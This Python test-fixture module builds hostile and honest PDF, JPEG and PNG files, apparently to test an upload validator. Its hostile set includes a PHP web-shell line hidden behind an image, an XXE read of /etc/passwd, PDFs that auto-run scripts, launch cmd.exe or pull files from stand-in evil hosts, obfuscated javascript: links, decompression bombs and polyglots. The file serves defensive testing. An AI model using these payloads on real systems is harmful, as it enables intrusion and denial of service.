"""Hostile and honest files, made here byte by byte: nothing binary lies in the repository."""

from __future__ import annotations

import io
import os
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from PIL import Image, PngImagePlugin

from tests.world import pdf_bytes, picture_bytes

LIMIT = 2_000_000
PIXELS = 1_000_000
Maker = Callable[[], bytes]
Name, Dictionary, Array = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array


def zipped(name: str = "a.txt", body: bytes = b"x", comment: bytes = b"") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, body)
        archive.comment = comment
    return buffer.getvalue()


def program() -> bytes:
    """The shortest thing that looks like a Windows program: a head that leads to another."""
    return b"MZ" + b"\0" * 58 + (64).to_bytes(4, "little") + b"PE\0\0" + b"\0" * 40


# PDF --------------------------------------------------------------------------------------------------------------


def pdf_with(change: Callable[[pikepdf.Pdf], object], **save: object) -> bytes:
    buffer = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        change(document)
        document.save(buffer, **save)  # type: ignore[arg-type]
    return buffer.getvalue()


def opens(**action: object) -> Callable[[pikepdf.Pdf], object]:
    """A PDF that does something as soon as it is opened."""

    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = Dictionary(**action)

    return change


def annotated(**annotation: object) -> Callable[[pikepdf.Pdf], object]:
    def change(document: pikepdf.Pdf) -> None:
        box = Array([0, 0, 9, 9])
        made = document.make_indirect(Dictionary(Type=Name.Annot, Rect=box, **annotation))
        document.pages[0].Annots = Array([made])

    return change


def linking(address: str | bytes) -> Maker:
    """A PDF with a link."""
    return lambda: pdf_with(annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=pikepdf.String(address))))


def rooted(**entries: object) -> Maker:
    """A PDF with something in its catalogue."""
    return lambda: pdf_with(lambda document: [document.Root.__setitem__(f"/{key}", entries[key]) for key in entries])


def drawing(**entries: object) -> Maker:
    """A PDF with a drawing that is taken from somewhere else."""

    def change(document: pikepdf.Pdf) -> None:
        entries_ = {"Subtype": Name.Form, "BBox": Array([0, 0, 9, 9])} | entries
        made = document.make_stream(b"", Type=Name.XObject, **entries_)
        document.pages[0].Resources = Dictionary(XObject=Dictionary(A=made))

    return lambda: pdf_with(change)


def words_that_look_like_files(document: pikepdf.Pdf) -> None:
    """Fonts, glyphs, roles and destinations called F are no files; a note has flags called F."""
    font = Dictionary(Type=Name.Font, Subtype=Name.Type3, CharProcs=Dictionary(F=document.make_stream(b"0 0 m")))
    document.pages[0].Resources = Dictionary(Font=Dictionary(F=document.make_indirect(font)))
    document.Root.Dests = Dictionary(F=Array([document.pages[0].obj, Name.Fit]))
    document.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, RoleMap=Dictionary(F=Name.P))
    annotated(Subtype=Name.Text, Contents="Lưu ý", F=4)(document)


def carry(document: pikepdf.Pdf) -> None:
    document.attachments["x.exe"] = pikepdf.AttachedFileSpec(document, b"MZ\x90", filename="x.exe")


def pinned_file(document: pikepdf.Pdf) -> None:
    """A file as an annotation: no list of attachments names it."""
    body = document.make_stream(b"MZ\x90", Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F="x.exe", EF=Dictionary(F=body))
    annotated(Subtype=Name.FileAttachment, FS=spec)(document)


def no_pages(document: pikepdf.Pdf) -> None:
    del document.pages[0]


def form_that_computes(document: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    field = document.make_indirect(Dictionary(FT=Name.Tx, T="a", AA=Dictionary(C=action)))
    document.Root.AcroForm = Dictionary(Fields=Array([field]))


def dynamic_form(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp:xdp/>"))


def script_by_name(document: pikepdf.Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS=document.make_stream(b"app.alert(1)"))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", script])))


def nested(depth: int) -> Callable[[pikepdf.Pdf], object]:
    def change(document: pikepdf.Pdf) -> None:
        inner = Array([])
        for _ in range(depth):
            inner = Array([inner])
        document.Root.Deep = inner

    return change


def locked() -> bytes:
    return pdf_with(lambda _: None, encryption=pikepdf.Encryption(owner="o", user="u"))


class Written:
    """A PDF written by hand, for what a library would not write."""

    def __init__(self, head: bytes = b"%PDF-1.5\n") -> None:
        self.out = io.BytesIO()
        self.out.write(head)
        self.places: dict[int, int] = {}

    def object(self, number: int, body: bytes) -> None:
        self.places[number] = self.out.tell()
        self.out.write(b"%d 0 obj\n%b\nendobj\n" % (number, body))

    def stream(self, number: int, entries: bytes, raw: bytes) -> None:
        self.object(number, b"<< %b /Length %d >>\nstream\n%b\nendstream" % (entries, len(raw), raw))

    def page(self, catalog: bytes = b"") -> None:
        self.object(1, b"<< /Type /Catalog /Pages 2 0 R %b >>" % catalog)
        self.object(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
        self.object(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>")

    def end(self, number: int, inside: dict[int, tuple[int, int]] | None = None) -> bytes:
        """Finish with a cross-reference stream; ``inside``: object → (stream of objects, place in it)."""
        place = self.out.tell()
        rows = [(0, 0, 65535)]
        rows += [(1, self.places[n], 0) if n in self.places else (2, *(inside or {})[n]) for n in range(1, number)]
        rows.append((1, place, 0))
        table = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
        entries = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode" % (number + 1)
        self.stream(number, entries, table)
        self.out.write(b"startxref\n%d\n%%%%EOF\n" % place)
        return self.out.getvalue()


def in_objects(body: bytes, padding: int = 0) -> bytes:
    """A PDF with one object inside a compressed stream of objects, behind as much nothing as asked."""
    made = Written()
    made.page(b"/OpenAction 5 0 R")
    packer = zlib.compressobj(9)
    packed = packer.compress(b"5 0 " + body)
    for _ in range(padding):
        packed += packer.compress(b" " * 1_000_000)
    packed += packer.flush()
    made.stream(4, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", packed)
    return made.end(6, {5: (4, 0)})


def many_bombs() -> bytes:
    """Streams of objects, each below the limit, gigabytes together."""
    made = Written()
    made.page()
    packed = zlib.compress(b"%d 0 null" % 5 + b" " * 15_000_000, 9)
    inside = {}
    for number in range(4, 64, 2):
        made.stream(number, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", packed)
        inside[number + 1] = (number, 0)
    return made.end(64, inside)


def many_revisions() -> bytes:
    """Cross-reference streams without end, each pointing at the one before."""
    made = Written()
    made.page()
    rows = struct.pack(">BIH", 0, 0, 65535) + b"".join(struct.pack(">BIH", 1, made.places[n], 0) for n in (1, 2, 3))
    table = zlib.compress(rows + b"\0" * 7 * 300_000, 9)
    before = b""
    for _ in range(400):
        place = made.out.tell()
        made.stream(4, b"/Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode" + before, table)
        before = b"/Prev %d" % place
    made.out.write(b"startxref\n%d\n%%%%EOF\n" % place)
    return made.out.getvalue()


def hidden_name() -> bytes:
    """A script whose name is written in numbers."""
    made = Written()
    made.page(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")
    return made.end(4)


def second_thoughts() -> bytes:
    """An honest file, changed by an update at its end to run a script."""
    honest = Written()
    honest.page()
    body = honest.end(4)
    update = body.rfind(b"startxref")
    place = int(body[update + 10 :].split()[0])
    made = Written(body)
    made.object(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>")
    table = b"xref\n1 1\n%010d 00000 n \n" % made.places[1]
    start = made.out.tell()
    made.out.write(table + b"trailer << /Size 5 /Root 1 0 R /Prev %d >>\n" % place)
    made.out.write(b"startxref\n%d\n%%%%EOF\n" % start)
    return made.out.getvalue()


def zip_in_a_stream(document: pikepdf.Pdf) -> None:
    document.Root.Extra = document.make_stream(zipped())


ELF_AND_PAGE = b"\x7fELF\x02\x01\x01" + b"\0" * 40 + b"<html><script>alert(1)</script>\n"


def behind(hidden: bytes, whole: bytes | None = None) -> Maker:
    """A PDF with something behind it and an end behind that, which leads to the last cross-reference of the PDF."""

    def make() -> bytes:
        body = pdf_bytes() if whole is None else whole
        return body + hidden + b"\nstartxref\n%b\n%%%%EOF\n" % body[body.rfind(b"startxref") + 9 :].split()[0]

    return make


def in_an_update(hidden: bytes, *, before: bool) -> Maker:
    """Something between the objects of a revision and its end, behind or before its table."""

    def make() -> bytes:
        whole = updated()
        if before:
            cut = whole.rfind(b"%%EOF", 0, -9) + 5
            place = int(whole.split()[-2]) + len(hidden)
            return whole[:cut] + hidden + whole[cut : whole.rfind(b"startxref")] + b"startxref\n%d\n%%%%EOF" % place
        cut = whole.rfind(b"startxref")
        return whole[:cut] + hidden + whole[cut:]

    return make


def old_linearised() -> bytes:
    """Two tables: the first part ends early and leads nowhere, the second leads back to it."""
    plain = pikepdf.ObjectStreamMode.disable
    return pdf_with(written_on, linearize=True, force_version="1.4", object_stream_mode=plain)


def for_old_readers() -> bytes:
    """A second, empty table that leads to the first, as an office program writes it."""
    made = Written()
    made.page()
    body = made.end(4)
    place = int(body.split()[-2])
    trailer = b"xref\n0 0\ntrailer\n<</Size 5/Root 1 0 R/ID[<AB12><AB12>]/Prev %d/XRefStm %d>>\n" % (place, place)
    return body + trailer + b"startxref\n%d\n%%%%EOF" % len(body)


def updated_with_a_comment() -> bytes:
    """An update as a program writes it that marks its own doing, by comments."""
    whole = updated()
    place = int(whole.split()[-2])
    cut = whole.rfind(b"3 0 obj")
    note = b"%BeginUpdate\n"
    moved = whole[cut:].replace(b"%010d 00000 n" % cut, b"%010d 00000 n" % (cut + len(note)))
    moved = moved.replace(b"startxref\n%d" % place, b"%%EndUpdate %d\nstartxref\n%d" % (cut, place + len(note)))
    return whole[:cut] + note + moved


# Pictures ---------------------------------------------------------------------------------------------------------


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, rows: bytes, *, depth: int = 8, colour: int = 0, laced: int = 0) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, laced)
    body = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def png_flood() -> bytes:
    """A PNG that claims 30,000 × 30,000 pixels in a few bytes."""
    return png(30_000, 30_000, b"\0" * 3751 * 1000, depth=1)


def interlaced() -> bytes:
    """The seven passes of Adam7 for 16 × 16 grey pixels."""
    passes = ((0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2))
    rows = b"".join((b"\0" + b"\x80" * len(range(x, 16, dx))) * len(range(y, 16, dy)) for x, y, dx, dy in passes)
    return png(16, 16, rows, laced=1)


def png_text_bomb() -> bytes:
    whole = picture_bytes("PNG")
    text = chunk(b"zTXt", b"a\0\0" + zlib.compress(b"x" * 80_000_000, 9))
    return whole[:33] + text + whole[33:]


def png_hiding(inside: bytes) -> bytes:
    """An archive between the end of a picture and a second end."""
    return picture_bytes("PNG") + inside + chunk(b"IEND", b"")


def saved(kind: str, mode: str = "RGB", size: tuple[int, int] = (200, 100), **options: object) -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size).save(buffer, kind, **options)  # type: ignore[arg-type]
    return buffer.getvalue()


def jpeg_comment(body: bytes) -> bytes:
    whole = picture_bytes()
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(body) + 2) + body + whole[2:]


def photo(**tags: object) -> bytes:
    buffer = io.BytesIO()
    picture = Image.new("RGB", (400, 300), (90, 120, 60))
    exif = picture.getexif()
    exif[0x010F] = "Điện thoại"
    exif[0x0112] = 6
    exif.get_ifd(0x8825).update({1: "N", 2: (15.0, 50.0, 0.0), 3: "E", 4: (108.0, 20.0, 0.0)})
    picture.save(buffer, "JPEG", exif=exif, quality=85, **tags)  # type: ignore[arg-type]
    return buffer.getvalue()


def moving_photo() -> bytes:
    """A film behind the picture, as phones write it: megabytes of what looks like noise."""
    return photo() + b"MotionPhoto_Data" + random.Random(8).randbytes(LIMIT - 100_000)


def with_thumbnail() -> bytes:
    """EXIF with a small JPEG inside, whose end comes before the end of the picture."""
    inner = saved("JPEG", size=(16, 12))
    body = b"Exif\0\0MM\0*\0\0\0\x08\0\0\0\0\0\0" + inner
    whole = picture_bytes()
    return whole[:2] + b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body + whole[2:]


def several_pictures() -> bytes:
    """A JPEG with a second picture (depth, HDR), as newer phones write it."""
    buffer = io.BytesIO()
    second = Image.new("RGB", (200, 150))
    Image.new("RGB", (400, 300)).save(buffer, "MPO", save_all=True, append_images=[second])
    return buffer.getvalue()


def png_with_words() -> bytes:
    words = PngImagePlugin.PngInfo()
    words.add_text("Ghi chú", "Ảnh chụp nhà văn hoá thôn", zip=True)
    return saved("PNG", pnginfo=words, dpi=(300, 300))


# PDF as offices and scanners write them ----------------------------------------------------------------------------


def scan(pages: int = 2, *, kind: str = "JPEG", colours: str = "DeviceRGB", bits: int = 8) -> Maker:
    """Pages that are one picture each."""

    def make() -> bytes:
        def fill(document: pikepdf.Pdf) -> None:
            del document.pages[0]
            for number in range(pages):
                document.pages.append(_scanned(document, number, kind, colours, bits))

        return pdf_with(fill)

    return make


def _scanned(document: pikepdf.Pdf, number: int, kind: str, colours: str, bits: int) -> pikepdf.Page:
    if kind == "JPEG":
        body, filters = saved("JPEG", "L" if colours == "DeviceGray" else "RGB"), Name.DCTDecode
    else:
        # A white A4 page at 300 dpi inflates to a thousand times its size, and is honest.
        body, filters = zlib.compress(b"\xff" * (2480 * 3508 * bits // 8), 9), Name.FlateDecode
    picture = document.make_stream(
        body, Type=Name.XObject, Subtype=Name.Image, Filter=filters, Width=2480, Height=3508,
        ColorSpace=Name(f"/{colours}"), BitsPerComponent=bits,
    )  # fmt: skip
    page = document.add_blank_page()
    page.Resources = Dictionary(XObject=Dictionary(Im0=picture))
    page.Contents = document.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q %% %d" % number)
    del document.pages[-1]
    return page


def form(document: pikepdf.Pdf) -> None:
    """Fields to fill in, without a script."""
    field = document.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="ten", V="Xã Quế Phú", Rect=Array([0, 0, 99, 20])
        )
    )
    document.pages[0].Annots = Array([field])
    document.Root.AcroForm = Dictionary(Fields=Array([field]), NeedAppearances=True)


def written_on(document: pikepdf.Pdf) -> None:
    """Links, bookmarks, notes, and a first view: what office programs put in."""
    web = Dictionary(S=Name.URI, URI="https://vanban.chinhphu.vn/x?y=1")
    annotated(Subtype=Name.Link, A=web)(document)
    document.pages[0].Annots.append(
        document.make_indirect(
            Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=Array([0, 0, 9, 9]), Contents="Lưu ý")
        )
    )
    document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])
    document.Root.PageMode = Name.UseOutlines
    with document.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Phần 1", 0))


def goes_to_a_page(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]))


def signed(document: pikepdf.Pdf) -> None:
    """A field with a signature, as a signing service leaves it."""
    value = Dictionary(
        Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), SubFilter=Name("/adbe.pkcs7.detached"),
        Contents=pikepdf.String(b"\x30\x82" + os.urandom(500)), ByteRange=Array([0, 10, 20, 30]), Name="UBND xã",
    )  # fmt: skip
    field = document.make_indirect(Dictionary(FT=Name.Sig, T="ky", V=document.make_indirect(value)))
    document.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)


def updated() -> bytes:
    """A file with a revision at its end, as signing programs write it."""
    made = Written()
    made.page()
    body = made.end(4)
    place = int(body[body.rfind(b"startxref") + 10 :].split()[0])
    again = Written(body)
    again.object(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>")
    start = again.out.tell()
    again.out.write(
        b"xref\n3 1\n%010d 00000 n \ntrailer << /Size 5 /Root 1 0 R /Prev %d >>\n" % (again.places[3], place)
    )
    again.out.write(b"startxref\n%d\n%%%%EOF\n" % start)
    return again.out.getvalue()


def nothing(_document: pikepdf.Pdf) -> None:
    """A plain page."""


HOSTILE: dict[str, Maker] = {
    "nothing": lambda: b"",
    "too heavy": lambda: b"%PDF-" + b"0" * LIMIT,
    "plain text": lambda: b"hello",
    "html": lambda: b"<html><script>alert(1)</script></html>",
    "svg": lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "xml": lambda: b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "program": program,
    "elf": lambda: b"\x7fELF" + b"\0" * 100,
    "old office": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "rich text": lambda: b"{\\rtf1 {\\object}}",
    "word": lambda: zipped("word/document.xml"),
    "word with macros": lambda: zipped("word/vbaProject.bin"),
    "excel": lambda: zipped("xl/workbook.xml"),
    "zip": zipped,
    "zip bomb": lambda: zipped("a", b"\0" * 20_000_000),
    "rar": lambda: b"Rar!\x1a\x07\x01\0" + b"\0" * 100,
    "gif": lambda: picture_bytes("GIF"),
    "webp": lambda: picture_bytes("WEBP"),
    "tiff": lambda: picture_bytes("TIFF"),
    "bmp": lambda: picture_bytes("BMP"),
    "jpeg and zip": lambda: picture_bytes() + zipped(),
    "jpeg and zip with a long comment": lambda: picture_bytes() + zipped(comment=b" " * 65_000),
    "jpeg with a zip in its comment": lambda: jpeg_comment(zipped()),
    "png and zip": lambda: picture_bytes("PNG") + zipped(),
    "png and zip and a second end": lambda: png_hiding(zipped()),
    "png and html and a second end": lambda: png_hiding(b"<html><script>alert(1)</script>"),
    "jpeg and html": lambda: picture_bytes() + b"<html><script>alert(1)</script>",
    "jpeg and svg": lambda: picture_bytes() + b"\n<SVG onload=alert(1)>",
    "jpeg and php": lambda: picture_bytes() + b"<?php system($_GET['x']); ?>",
    "jpeg and pdf": lambda: picture_bytes() + pdf_bytes(),
    "jpeg and rar": lambda: picture_bytes() + b"Rar!\x1a\x07\0",
    "jpeg and a program behind noise": lambda: picture_bytes() + b"x" * 999 + program(),
    "png and program": lambda: picture_bytes("PNG") + b"MZ\x90\0",
    "png and shell script": lambda: picture_bytes("PNG") + b"\n#!/bin/sh\n",
    "png and elf": lambda: picture_bytes("PNG") + b"..\x7fELF\x02\x01\x01",
    "pdf and zip": lambda: pdf_bytes() + zipped(),
    "pdf and zip and a second end": lambda: pdf_bytes() + zipped() + b"\n%%EOF",
    "pdf and html": lambda: pdf_bytes() + b"<html>",
    "pdf with a zip in a stream": lambda: pdf_with(zip_in_a_stream, compress_streams=False),
    "pdf and program and page and a second end": lambda: pdf_bytes() + ELF_AND_PAGE + b"%%EOF",
    "pdf and page and an end that leads to the pdf": behind(ELF_AND_PAGE),
    "pdf and an object and an end that leads to the pdf": behind(b"9 0 obj\nnull\nendobj\n" + ELF_AND_PAGE),
    "pdf and pdf": lambda: pdf_bytes() + pdf_bytes(2),
    "pdf and blank lines and pdf": lambda: pdf_bytes() + b"\n\n" + pdf_bytes(2) + b"\n",
    "pdf and page in a comment": lambda: pdf_bytes() + b"\n%<html><script>alert(1)</script>\n%%EOF",
    "pdf and the head of a zip and a second end": lambda: pdf_bytes() + b"PK\x03\x04\n%%EOF\n",
    "pdf and noise": lambda: pdf_bytes() + b"\x01\x02\x03",
    "pdf with a page before an update": in_an_update(ELF_AND_PAGE, before=True),
    "pdf with a page behind the table of an update": in_an_update(ELF_AND_PAGE, before=False),
    "pdf with a page behind its table": lambda: pdf_bytes().replace(b"startxref", ELF_AND_PAGE + b"startxref"),
    "pdf without an end and page": lambda: pdf_bytes().replace(b"%%EOF", b"") + ELF_AND_PAGE,
    "linearised pdf and page": lambda: old_linearised() + ELF_AND_PAGE + b"%%EOF",
    "linearised pdf and page and an end": behind(b"9 0 obj\n" + ELF_AND_PAGE, old_linearised()),
    "half a jpeg": lambda: picture_bytes(size=(400, 400))[:700],
    "half a png": lambda: picture_bytes("PNG", (400, 400))[:200],
    "only a jpeg head": lambda: b"\xff\xd8\xff\xe0" + b"\0" * 50,
    "only a png head": lambda: b"\x89PNG\r\n\x1a\n",
    "only a pdf head": lambda: b"%PDF-1.7\n%%EOF",
    "half a pdf": lambda: pdf_bytes(20)[:400],
    "png called jpeg inside": lambda: b"\xff\xd8\xff" + picture_bytes("PNG"),
    "pixel flood": png_flood,
    "too many pixels": lambda: picture_bytes("PNG", (2000, 600)),
    "jpeg of too many pixels": lambda: picture_bytes("JPEG", (2000, 600)),
    "png text bomb": png_text_bomb,
    "pdf that runs a script": lambda: pdf_with(opens(S=Name.JavaScript, JS="app.alert(1)")),
    "pdf with a script by name": lambda: pdf_with(script_by_name),
    "pdf with a script under a hidden name": hidden_name,
    "pdf with a script in packed objects": lambda: in_objects(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "pdf with a script behind more than is read": lambda: in_objects(b"<< /S /JavaScript /JS (x) >>", padding=40),
    "pdf with a script in an update": second_thoughts,
    "pdf with a form that computes": lambda: pdf_with(form_that_computes),
    "pdf with a dynamic form": lambda: pdf_with(dynamic_form),
    "pdf that starts a program": lambda: pdf_with(opens(S=Name.Launch, F="cmd.exe")),
    "pdf that sends a form": lambda: pdf_with(opens(S=Name.SubmitForm, F="form")),
    "pdf that imports data": lambda: pdf_with(opens(S=Name.ImportData, F="x.fdf")),
    "pdf that opens a file elsewhere": lambda: pdf_with(opens(S=Name.GoToR, F="\\\\evil.invalid\\x.pdf", D=0)),
    "pdf that opens a file inside": lambda: pdf_with(opens(S=Name.GoToE, T=Dictionary())),
    "pdf with a link that runs": lambda: pdf_with(
        annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=" JavaScript:alert(1)"))
    ),
    "pdf with a link to another computer": linking("\\\\evil\\share\\x"),
    "pdf with a link to another computer by slashes": linking("//evil/share/x"),
    "pdf with a link to another computer by both": linking("/\\evil/share/x"),
    "pdf with a link to a file": linking("file:///C:/Windows/x.exe"),
    "pdf with a link to a drive": linking("C:\\x.exe"),
    "pdf with a link to a program's own kind": linking("ms-msdt:/id"),
    "pdf with a link that runs in wide letters": linking("javascript:alert(1)".encode("utf-16")),
    "pdf with a link that runs in wide letters, no mark": linking("javascript:alert(1)".encode("utf-16-le")),
    "pdf with a link that runs behind a mark": linking(b"\xef\xbb\xbfjavascript:alert(1)"),
    "pdf with a link that runs behind a control": linking(b"\x01javascript:alert(1)"),
    "pdf with a link that runs behind a letter of old": linking(b"\x18javascript:alert(1)"),
    "pdf with a link that runs across a tab": linking("java\tscript:alert(1)"),
    "pdf with a link that runs across a line": linking("java\r\nscript\n:alert(1)"),
    "pdf with a link that holds a page": linking("data:text/html,<script>alert(1)</script>"),
    "pdf with a link that is no text": lambda: pdf_with(opens(S=Name.URI, URI=Array([]))),
    "pdf whose links start from a script": rooted(URI=Dictionary(Base="javascript:")),
    "pdf with a thread elsewhere": lambda: pdf_with(opens(S=Name.Thread, F=Dictionary(FS=Name.URL), D=0)),
    "pdf with a picture elsewhere": drawing(Subtype=Name.Image, F="http://evil.invalid/x"),
    "pdf with a picture elsewhere by a list": drawing(F=Dictionary(UF="x"), FFilter=Name.FlateDecode),
    "pdf with a page elsewhere": drawing(Ref=Dictionary(F=Dictionary(), Page=0)),
    "pdf with a printer's program": drawing(Subtype=Name.PS),
    "pdf with a printer's program under a second name": drawing(Subtype2=Name.PS),
    "pdf that opens a program without saying how": rooted(OpenAction=Dictionary(F="calc.exe")),
    "pdf that opens a list without saying how": rooted(OpenAction=Dictionary(F=Dictionary())),
    "pdf with the name of a file": rooted(Extra=Dictionary(Type=Name.Filespec, UF="\\\\evil\\x")),
    "pdf with a film": lambda: pdf_with(annotated(Subtype=Name.Movie)),
    "pdf with rich media": lambda: pdf_with(annotated(Subtype=Name.RichMedia)),
    "pdf with a file inside": lambda: pdf_with(carry),
    "pdf with a file pinned to a page": lambda: pdf_with(pinned_file),
    "pdf without pages": lambda: pdf_with(no_pages),
    "pdf with a password": locked,
    "pdf nested without end": lambda: pdf_with(nested(200)),
    "pdf that inflates a thousandfold": lambda: in_objects(b"<< /A 1 >>", padding=200),
    "pdf of many bombs": many_bombs,
    "pdf of endless revisions": many_revisions,
}

PDF, JPEG, PNG = "application/pdf", "image/jpeg", "image/png"
HONEST: dict[str, tuple[Maker, str]] = {
    "pdf": (pdf_bytes, PDF),
    "long pdf": (lambda: pdf_bytes(60), PDF),
    "pdf 1.4": (
        lambda: pdf_with(nothing, force_version="1.4", object_stream_mode=pikepdf.ObjectStreamMode.disable),
        PDF,
    ),
    "pdf 1.7 with packed objects": (
        lambda: pdf_with(nothing, force_version="1.7", object_stream_mode=pikepdf.ObjectStreamMode.generate),
        PDF,
    ),
    "pdf 1.7 linearised": (
        lambda: pdf_with(
            written_on, linearize=True, force_version="1.7", object_stream_mode=pikepdf.ObjectStreamMode.generate
        ),
        PDF,
    ),
    "pdf 2.0": (lambda: pdf_with(nothing, force_version="2.0"), PDF),
    "scan in colour": (scan(), PDF),
    "scan in grey": (scan(colours="DeviceGray"), PDF),
    "scan of white pages": (scan(8, kind="Flate", colours="DeviceGray"), PDF),
    "scan in black and white pages": (scan(20, kind="Flate", colours="DeviceGray", bits=1), PDF),
    "pdf with links, notes and bookmarks": (lambda: pdf_with(written_on), PDF),
    "pdf with a link to a page": (linking("HTTP://vanban.vn:8080/văn bản?a=b:c"), PDF),
    "pdf with a link in wide letters": (linking("https://vanban.vn/văn-bản".encode("utf-16")), PDF),
    "pdf with a link to a letter": (linking("mailto:xa@quangnam.gov.vn?subject=NTM"), PDF),
    "pdf with a link to a telephone": (linking("tel:+84235123456"), PDF),
    "pdf with a link without its kind": (linking("www.quangnam.gov.vn"), PDF),
    "pdf with a link without its kind to a port": (linking("www.quangnam.gov.vn:8080/x"), PDF),
    "pdf with a link to a place in it": (linking("#trang=2"), PDF),
    "pdf with an empty link": (linking(""), PDF),
    "pdf whose links start from a page": (rooted(URI=Dictionary(Base="https://quangnam.gov.vn/")), PDF),
    "pdf with an empty start of links": (rooted(URI=Dictionary()), PDF),
    "pdf with words that look like files": (lambda: pdf_with(words_that_look_like_files), PDF),
    "pdf that opens at a page": (lambda: pdf_with(goes_to_a_page), PDF),
    "pdf with a form": (lambda: pdf_with(form), PDF),
    "pdf with a signature": (lambda: pdf_with(signed), PDF),
    "pdf with an update": (updated, PDF),
    "pdf with an update between comments": (updated_with_a_comment, PDF),
    "pdf with a table for old readers": (for_old_readers, PDF),
    "pdf 1.4 linearised": (old_linearised, PDF),
    "pdf with its end twice": (lambda: pdf_bytes() + b"\n%%EOF\n", PDF),
    "pdf with an owner's password only": (
        lambda: pdf_with(nothing, encryption=pikepdf.Encryption(owner="o", user="")),
        PDF,
    ),
    "pdf with blank lines behind its end": (lambda: pdf_bytes() + b"\r\n\r\n\0\0", PDF),
    "pdf of deep but honest nesting": (lambda: pdf_with(nested(20)), PDF),
    "jpeg": (picture_bytes, JPEG),
    "progressive jpeg": (lambda: saved("JPEG", progressive=True), JPEG),
    "optimised jpeg": (lambda: saved("JPEG", optimize=True, subsampling=0), JPEG),
    "jpeg with restart marks": (lambda: saved("JPEG", restart_marker_rows=1), JPEG),
    "grey jpeg": (lambda: saved("JPEG", mode="L"), JPEG),
    "cmyk jpeg": (lambda: saved("JPEG", mode="CMYK"), JPEG),
    "jpeg with a comment": (lambda: jpeg_comment("Ảnh chụp ở thôn".encode()), JPEG),
    "phone photo with place": (photo, JPEG),
    "phone photo with a thumbnail": (with_thumbnail, JPEG),
    "phone photo with a film": (moving_photo, JPEG),
    "phone photo of several pictures": (several_pictures, JPEG),
    "png": (lambda: picture_bytes("PNG"), PNG),
    "png with palette": (lambda: saved("PNG", mode="P"), PNG),
    "transparent png": (lambda: saved("PNG", mode="RGBA"), PNG),
    "grey png with transparency": (lambda: saved("PNG", mode="LA"), PNG),
    "scan in black and white": (lambda: saved("PNG", mode="1"), PNG),
    "png of 16 bits": (lambda: png(20, 10, (b"\0" + b"\x12\x34" * 20) * 10, depth=16), PNG),
    "interlaced png": (interlaced, PNG),
    "png with words": (png_with_words, PNG),
}
